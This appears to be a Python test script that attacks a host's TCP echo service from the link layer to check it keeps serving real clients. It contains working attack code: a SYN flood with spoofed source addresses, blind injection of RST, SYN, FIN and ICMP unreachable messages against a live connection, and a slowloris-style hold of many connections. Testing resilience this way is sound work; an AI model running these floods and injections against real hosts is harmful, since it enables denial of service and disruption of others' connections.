"""Attacks of unknown peers on the network, from the kernel's side of a host's link, while real clients are served.

Usage: unknown_peers.py flood DEVICE ADDRESS OWN_ADDRESS PORT SECONDS SEED   SYNs from addresses that do not answer
       unknown_peers.py inject DEVICE ADDRESS OWN_ADDRESS PORT SEED          RST, SYN and ICMP, blind and nearly right
       unknown_peers.py call ADDRESS PORT CONNECTIONS                        connections one by one, each checked
       unknown_peers.py loris ADDRESS PORT CONNECTIONS SECONDS               many that send little and never read
PORT echoes. Exit status 1 if a real client is not served, or something that must not end a connection does.
"""
import os
import random
import select
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
command, arguments = sys.argv[1], sys.argv[2:]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, target, payload, protocol=6):
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0x4000, 64, protocol, 0) + source + target
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def tcp(source, target, source_port, port, flags, sequence, acknowledged=0, options=b""):
    words = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", source_port, port, sequence % 2**32, acknowledged % 2**32, words << 4, flags, 65535, 0, 0)
    segment = header + options
    found = checksum(source + target + struct.pack("!BBH", 0, 6, len(segment)) + segment)
    return ipv4(source, target, segment[:16] + struct.pack("!H", found) + segment[18:])


def icmp(source, target, code, mtu, quoted):
    message = struct.pack("!BBHHH", 3, code, 0, 0, mtu) + quoted
    return ipv4(source, target, message[:2] + struct.pack("!H", checksum(message)) + message[4:], protocol=1)


def exchange(connection, message):
    connection.sendall(message)
    found = b""
    while len(found) < len(message):
        data = connection.recv(65536)
        if not data:
            sys.exit("the connection ended")
        found += data
    if found != message:
        sys.exit("a wrong reply")


class Wire:
    """The host's link, for frames of any content."""

    def __init__(self, device, host, port):
        self.raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.raw.bind((device, 0))
        with socket.create_connection((host, port), 10) as connection:
            exchange(connection, b"hello")
        with open("/proc/net/arp") as table:
            found = [line.split() for line in table]
        to = next(words[3] for words in found if words[0] == host)
        self.head = bytes.fromhex(to.replace(":", "")) + self.raw.getsockname()[4] + b"\x08\0"

    def send(self, packet):
        self.raw.send(self.head + packet)

    def forget(self):
        """What has come so far is of no interest: its queue may be full."""
        self.raw.settimeout(0)
        try:
            while True:
                self.raw.recv(65536)
        except BlockingIOError:
            pass

    def newest(self, source_port, host):
        """The last segment of the host to a port that has come: its sequence number and acknowledgement, both behind
        it, and the timestamp that it echoes."""
        self.raw.settimeout(0)
        last = None
        while True:
            try:
                frame = self.raw.recv(65536)
            except BlockingIOError:
                return last
            if frame[23] == 6 and frame[26:30] == host and struct.unpack("!H", frame[36:38])[0] == source_port:
                length = struct.unpack("!H", frame[16:18])[0] - 20 - (frame[46] >> 4) * 4
                sequence, acknowledged = struct.unpack("!II", frame[38:46])
                stamp = struct.unpack("!I", frame[62:66])[0] if frame[54:58] == b"\1\1\x08\x0a" else 0
                last = (sequence + length) % 2**32, acknowledged, stamp


def flood(device, host, own, port, seconds, seed):
    wire, dice = Wire(device, host, int(port)), random.Random(int(seed))
    target, network = socket.inet_aton(host), socket.inet_aton(own)[:3]
    frames = []
    for at in range(20000):
        near = at % 2 == 0
        source = network + bytes([dice.randrange(20, 250)]) if near else dice.randbytes(3) + b"\1"
        source = source if 1 < source[0] < 224 and source[0] != 127 else b"\x0b" + source[1:]
        options = b"\2\4\5\xb4\4\2\x08\x0a" + dice.randbytes(4) + b"\0\0\0\0\1\3\3\7" if at % 3 else b""
        segment = tcp(source, target, dice.randrange(1024, 65536), int(port), SYN, dice.randrange(2**32), 0, options)
        frames.append(wire.head + segment)
    end, sent, raw = time.monotonic() + float(seconds), 0, wire.raw
    while time.monotonic() < end:
        for frame in frames[sent % 20000 :][:500]:
            try:
                raw.send(frame)
            except OSError:
                # The device's queue is full: as on any wire, it is lost.
                pass
        sent += 500
    print(f"{sent} SYNs, {sent / float(seconds):.0f}/s")


def call(host, port, connections):
    slowest = 0
    for number in range(int(connections)):
        begin = time.monotonic()
        with socket.create_connection((host, int(port)), 20) as connection:
            exchange(connection, os.urandom(3000))
        slowest = max(slowest, time.monotonic() - begin)
    print(f"{connections} connections served, the slowest in {slowest * 1e3:.0f} ms")


def inject(device, host, own, port, seed):
    port, dice = int(port), random.Random(int(seed))
    wire = Wire(device, host, port)
    me, them = socket.inet_aton(own), socket.inet_aton(host)
    connection = socket.create_connection((host, port), 20)
    exchange(connection, b"before")
    mine = connection.getsockname()[1]
    wire.forget()
    exchange(connection, b"now")
    theirs, ours, stamp = wire.newest(mine, them)
    # Newer than any that the connection has seen: nothing is dropped for being old, and none of this may be remembered.
    stamp = (stamp + 2**20) % 2**32
    count = 0
    deltas = [-70000, -65536, -1000, -1, 1, 2, 3, 100, 1448, 30000, 65535, 2**31, 2**31 - 1]
    deltas += [dice.randrange(1, 2**32) for _ in range(3000)]
    for delta in deltas:
        for flags in (RST, RST | ACK, SYN, SYN | ACK, FIN | ACK | RST):
            for options in (b"", b"\1\1\x08\x0a" + struct.pack("!II", stamp, 0)):
                for acknowledged in (theirs, theirs + delta):
                    wire.send(tcp(me, them, mine, port, flags, ours + delta, acknowledged, options))
                    count += 1
        # Acknowledgements of what was never sent, and FINs beyond what was received (a right one would end it).
        wire.send(tcp(me, them, mine, port, ACK, ours, theirs + 1 + delta % 2**30))
        quoted = tcp(them, me, port, mine, ACK, theirs + 1 + delta % 2**30)[:28]
        for code, mtu in ((0, 0), (1, 0), (2, 0), (3, 0), (4, 68), (4, 576), (13, 0)):
            wire.send(icmp(me, them, code, mtu, quoted))
            count += 1
    exchange(connection, dice.randbytes(200_000))
    # What is exact ends the connection: so the others were checked.
    wire.forget()
    exchange(connection, b"still there")
    theirs, ours, stamp = wire.newest(mine, them)
    wire.send(tcp(me, them, mine, port, RST, ours))
    time.sleep(0.2)
    try:
        connection.settimeout(10)
        connection.sendall(b"after")
        if connection.recv(100):
            sys.exit("an exact reset did nothing: the injected segments never reached the connection")
    except ConnectionResetError:
        pass
    print(f"{count} segments and messages, none believed; one exact reset, believed")


def loris(host, port, connections, seconds):
    poll, held = select.epoll(), []
    for number in range(int(connections)):
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2000)
        connection.settimeout(20)
        connection.connect((host, int(port)))
        connection.setblocking(False)
        held.append(connection)
    end, sent = time.monotonic() + float(seconds), 0
    while time.monotonic() < end:
        for number, connection in enumerate(held):
            # Some send a byte now and then; the others send all they can and never read: their windows close.
            try:
                sent += connection.send(b"x" if number % 2 else b"y" * 60000)
            except BlockingIOError:
                pass
        time.sleep(0.05)
    print(f"{len(held)} connections, {sent} bytes sent, none read")


{"flood": flood, "inject": inject, "call": call, "loris": loris}[command](*arguments)
